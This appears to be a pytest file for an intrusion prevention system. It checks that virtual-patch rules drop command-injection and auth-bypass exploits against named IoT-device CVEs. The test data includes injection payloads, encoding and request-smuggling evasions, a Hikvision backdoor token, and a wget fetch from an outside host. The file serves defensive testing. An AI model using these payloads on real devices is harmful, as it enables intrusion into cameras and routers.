"""The shipped virtual patches against the encodings a device decodes.

A device's CGI reads a form or query parameter after splitting on `&` (some
also on `;`) and percent-decoding the name and the value. An exploit may
therefore spell the parameter name with escapes (`bright%6eess=`), put it in
the query instead of the body, or hide a separator in the value (`50%26id`).
Each variant below is one connection through the whole offline pipeline
(TCP, HTTP parser, detection) with the rules exactly as shipped; every
exploit must be dropped by the patch for its CVE and every request a real
client sends must pass.
"""
from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

import pytest
from scapy.all import wrpcap

from ips.config import Config
from ips.detect import DetectEngine
from ips.replay import replay
from tests.detect.make_cases import OK_RESPONSE, _request, _tcp_session

ROOT = Path(__file__).resolve().parents[2]
PATCHES = ROOT / "signatures" / "virtual-patches.rules"


def _escape_name(name: str, positions: str) -> str:
    """`positions`: "first" escapes one character, "all" every one, "upper"
    every one with upper-case hex digits."""
    if positions == "first":
        return "%%%02x" % ord(name[0]) + name[1:]
    escaped = "".join("%%%02x" % ord(c) for c in name)
    return escaped.upper() if positions == "upper" else escaped


# CVE -> (sids of its patch: form body, query, multipart; the target path, parameter,
#         parameters sent before it, an exploit value, good values)
PARAMETER_PATCHES = {
    "CVE-2024-7029": ((9100102, 9100103, 9100114), "/cgi-bin/supervisor/Factory.cgi", "brightness",
                      "action=white_led", "$(id)", ("50", "100")),
    "CVE-2023-1389": ((9100104, 9100105, 9100115), "/cgi-bin/luci/;stok=/locale?form=country", "country",
                      "operation=write", "$(id)", ("DE", "usa")),
    "CVE-2018-10562": ((9100107, 9100112, 9100116), "/GponForm/diag_Form", "dest_host",
                       "XWebPageName=diag&diag_action=ping", "`id`", ("198.51.100.1", "ntp.example")),
    "CVE-2017-18368": ((9100109, 9100113, 9100117), "/cgi-bin/ViewLog.asp", "remote_host",
                       "remote_submit_Flag=1", ";id;", ("198.51.100.5", "syslog.example")),
}


def _variants():
    """(cve, label, method, target, body, must_drop)."""
    for cve, (_sids, path, name, before, exploit, good) in PARAMETER_PATCHES.items():
        # A separator the device decodes after splitting ends up inside the value.
        smuggled = good[0] + quote("&") + "id"
        newline = good[0] + "%0a" + "id"
        exploits = {
            "plain": f"{name}={quote(exploit, safe='')}",
            "raw value": f"{name}={exploit}",
            "escaped name, one character": f"{_escape_name(name, 'first')}={quote(exploit, safe='')}",
            "escaped name, every character": f"{_escape_name(name, 'all')}={quote(exploit, safe='')}",
            "escaped name, upper-case hex": f"{_escape_name(name, 'upper')}={quote(exploit, safe='')}",
            "escaped separator in a good value": f"{name}={smuggled}",
            "escaped newline in a good value": f"{name}={newline}",
            "escaped name and separator": f"{_escape_name(name, 'all')}={smuggled}",
        }
        benign = {f"good value {value}": f"{name}={value}" for value in good}
        benign["good value, escaped name"] = f"{_escape_name(name, 'all')}={good[0]}"
        for where in ("body", "query"):
            for label, separator in (("&", "&"), (";", ";")):
                for kind, params, must_drop in ([(k, v, True) for k, v in exploits.items()]
                                                + [(k, v, False) for k, v in benign.items()]):
                    if separator == ";" and kind != "plain" and kind not in benign:
                        continue    # the separator is tested once per place
                    query = before + separator + params
                    if where == "body":
                        yield cve, f"{kind}, body, {label}", "POST", path, query.encode(), must_drop, "form"
                    else:
                        target = path + ("&" if "?" in path else "?") + query
                        yield cve, f"{kind}, query, {label}", "GET", target, b"", must_drop, "form"
        # The request around the parameter: framing, target form, path spelling.
        attack = f"{before}&{name}={quote(exploit, safe='')}"
        fine = f"{before}&{name}={good[0]}"
        twisted = "/" + path.replace("/", "//", 1).replace("/", "/./", 2)[1:]
        for params, must_drop, what in ((attack, True, "exploit"), (fine, False, "good value")):
            yield cve, f"{what}, chunked body", "POST", path, params.encode(), must_drop, "chunked"
            yield cve, f"{what}, absolute-form target", "POST", "http://device" + path, params.encode(), must_drop, "form"
            yield cve, f"{what}, path with // and ./", "POST", twisted, params.encode(), must_drop, "form"
        yield (cve, "exploit after the same parameter with a good value", "POST", path,
               f"{before}&{name}={good[0]}&{name}={quote(exploit, safe='')}".encode(), True, "form")
        # request-line quirks servers accept: the parser must too, or the
        # request never reaches the HTTP rules
        for quirk in ("empty lines first", "lower-case method", "tabs in the request line"):
            yield cve, f"exploit, {quirk}", "POST", path, attack.encode(), True, quirk
            yield cve, f"good value, {quirk}", "POST", path, fine.encode(), False, quirk


def _multipart(fields: list[tuple[str, str]]) -> bytes:
    parts = b"".join(b"--XyZ\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n"
                     % (name.encode(), value.encode()) for name, value in fields)
    return parts + b"--XyZ--\r\n"


def _multipart_variants():
    """The same parameters as multipart/form-data, which a CGI library such
    as LuCI's parses as readily as a urlencoded form."""
    for cve, (_sids, path, name, before, exploit, good) in PARAMETER_PATCHES.items():
        first = tuple(before.split("&")[0].split("="))
        for label, value, must_drop in ([("exploit", exploit, True),
                                         ("separator in a good value", good[0] + "&id", True)]
                                        + [(f"good value {v}", v, False) for v in good]):
            yield cve, f"{label}, multipart", "POST", path, _multipart([first, (name, value)]), must_drop, "multipart"


HIKVISION_AUTH = [
    ("magic token", "auth=YWRtaW46MTEK", True),
    ("magic token, padding instead of newline", "auth=YWRtaW46MTE=", True),
    ("magic token, unpadded", "auth=YWRtaW46MTE", True),
    ("another user with the backdoor password", "auth=" + "c3VwcG9ydDoxMQ==", True),
    ("escaped parameter name", "%61uth=YWRtaW46MTEK", True),
    ("escaped token characters", "auth=%59WRtaW46MTEK", True),
    ("after another parameter", "format=json&auth=YWRtaW46MTEK", True),
    ("real credentials", "auth=dXNlcjpzZWNyZXQ=", False),
    ("password 111, not 11", "auth=YWRtaW46MTEx", False),
]


def _all_cases():
    cases = list(_variants()) + list(_multipart_variants())
    for path in ("/Security/users", "/onvif-http/snapshot", "/System/configurationFile"):
        for label, query, drop in HIKVISION_AUTH:
            cases.append(("CVE-2017-7921", f"{label}, {path}", "GET", f"{path}?{query}", b"", drop, "form"))
    return cases


CASES = _all_cases()
SIDS = {cve: sids for cve, (sids, *_rest) in PARAMETER_PATCHES.items()} | {"CVE-2017-7921": (9100101,)}


def _frame(method: str, target: str, body: bytes, framing: str) -> bytes:
    if framing == "form":
        return _request(method, target, body)
    if framing == "empty lines first":
        return b"\r\n\r\n" + _request(method, target, body)
    if framing == "lower-case method":
        return _request(method.lower(), target, body)
    if framing == "tabs in the request line":
        return _request(method, target, body).replace(b" ", b"\t", 1).replace(b" HTTP/1.1", b"\tHTTP/1.1", 1)
    head = f"{method} {target} HTTP/1.1\r\nHost: device\r\n"
    if framing == "multipart":
        return (head + "Content-Type: multipart/form-data; boundary=XyZ\r\n"
                f"Content-Length: {len(body)}\r\n\r\n").encode() + body
    # chunked, in pieces that cut the parameter name and value
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 7]), body[i:i + 7]) for i in range(0, len(body), 7))
    return (head + "Content-Type: application/x-www-form-urlencoded\r\n"
            "Transfer-Encoding: chunked\r\n\r\n").encode() + chunks + b"0\r\n\r\n"


class _Alerts:
    """Collector consumer: each connection's (client port) alerts."""

    def __init__(self) -> None:
        self.by_port: dict[int, list] = {}

    def alert(self, event) -> None:
        port = event.src_port if event.src_port >= 20000 else event.dest_port
        self.by_port.setdefault(port, []).append(event)


@pytest.fixture(scope="module")
def outcome(tmp_path_factory):
    """One replay of every variant, one connection each."""
    folder = tmp_path_factory.mktemp("vpatch-encodings")
    frames = []
    for index, (_cve, _label, method, target, body, _drop, framing) in enumerate(CASES):
        request = _frame(method, target, body, framing)
        frames += _tcp_session([(True, request), (False, OK_RESPONSE)], sport=20000 + index,
                               start=index * 2.0, client="203.0.113.50", server="192.0.2.80")
    pcap = folder / "variants.pcap"
    wrpcap(str(pcap), frames)
    config = Config()
    engine, report = DetectEngine.load([str(PATCHES)], config)
    assert not report.skipped and not report.errors
    alerts = _Alerts()
    summary = replay([str(pcap)], engine, folder / "out", config, consumers=[alerts], progress=False)
    assert summary.packets == len(frames)
    return alerts.by_port


@pytest.mark.parametrize("index", range(len(CASES)),
                         ids=[f"{c[0]}: {c[1]}" for c in CASES])
def test_shipped_patch_sees_through_the_encoding(outcome, index):
    cve, label, method, target, body, must_drop, framing = CASES[index]
    alerts = outcome.get(20000 + index, [])
    fired = {a.signature_id for a in alerts}
    if must_drop:
        assert fired & set(SIDS[cve]), f"{method} {target} {body!r} passed"
        assert all(a.action == "blocked" for a in alerts if a.signature_id in SIDS[cve])
    else:
        assert not alerts, f"{method} {target} {body!r} raised {sorted(fired)}"


def test_every_patch_has_an_exploit_and_a_good_request():
    for cve in SIDS:
        drops = [c for c in CASES if c[0] == cve and c[5]]
        passes = [c for c in CASES if c[0] == cve and not c[5]]
        assert len(drops) >= 7 and len(passes) >= 2, cve


def test_blocked_form_exploit_logs_the_body_that_shows_why(outcome):
    index = next(i for i, c in enumerate(CASES)
                 if c[0] == "CVE-2024-7029" and c[1] == "escaped name, one character, body, &")
    alert = next(a for a in outcome[20000 + index] if a.signature_id == 9100102)
    assert alert.app["http"]["http_request_body_printable"] == "action=white_led&%62rightness=%24%28id%29"


def test_an_alert_that_only_notices_a_request_does_not_log_its_body(tmp_path):
    rules = tmp_path / "login.rules"
    rules.write_text(
        'alert http any any -> any any (msg:"login noticed"; flow:to_server; http.request_body; '
        'content:"password="; sid:1; rev:1;)\n'
        'drop http any any -> any any (msg:"exploit"; flow:to_server; http.request_body; '
        'content:"$(id)"; sid:2; rev:1;)\n')
    frames = []
    for index, body in enumerate((b"user=admin&password=hunter2", b"cmd=$(id)")):
        frames += _tcp_session([(True, _request("POST", "/login", body)), (False, OK_RESPONSE)],
                               sport=30000 + index, start=index * 2.0)
    wrpcap(str(tmp_path / "login.pcap"), frames)
    config = Config()
    engine, _report = DetectEngine.load([str(rules)], config)
    alerts = _Alerts()
    replay([str(tmp_path / "login.pcap")], engine, tmp_path / "out", config, consumers=[alerts], progress=False)
    noticed, = alerts.by_port[30000]
    blocked, = alerts.by_port[30001]
    assert noticed.action == "allowed" and "http_request_body_printable" not in noticed.app["http"]
    assert blocked.action == "blocked" and blocked.app["http"]["http_request_body_printable"] == "cmd=$(id)"


def test_shipped_patch_drops_request_smuggling_toward_a_device(tmp_path):
    # A POST whose body, for a server that takes the last Content-Length or
    # ignores chunked, is the command injection itself: no http.uri patch
    # sees that request, so the ambiguous framing (or the switch to HTTP/2)
    # is what is dropped. The same POST framed plainly passes, and so do the
    # framings servers agree on.
    from tests.evasion.make_cases import HTTP_FRAMING
    hidden = b"GET /cgi-bin/;wget%20http://198.51.100.9/x HTTP/1.1\r\nHost: device\r\n\r\n"
    head = b"POST /index.html HTTP/1.1\r\nHost: device\r\n"
    plain = {
        "one length": head + b"Content-Length: %d\r\n\r\n" % len(hidden) + hidden,
        "chunked": head + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(hidden) + hidden
        + b"\r\n0\r\n\r\n",
    }
    requests = [(name, request, patch) for name, (request, _, _, patch) in HTTP_FRAMING.items()]
    requests += [(name, request, None) for name, request in plain.items()]
    frames = []
    for index, (_name, request, _patch) in enumerate(requests):
        frames += _tcp_session([(True, request), (False, OK_RESPONSE)], sport=21000 + index,
                               start=index * 2.0, client="203.0.113.50", server="192.0.2.80")
    wrpcap(str(tmp_path / "smuggling.pcap"), frames)
    config = Config()
    engine, _report = DetectEngine.load([str(PATCHES)], config)
    alerts = _Alerts()
    replay([str(tmp_path / "smuggling.pcap")], engine, tmp_path / "out", config,
           consumers=[alerts], progress=False)
    assert sum(1 for _n, _r, patch in requests if patch) >= 8
    for index, (name, _request, patch) in enumerate(requests):
        fired = [(a.signature_id, a.action) for a in alerts.by_port.get(21000 + index, [])]
        assert fired == ([(patch, "blocked")] if patch else []), name
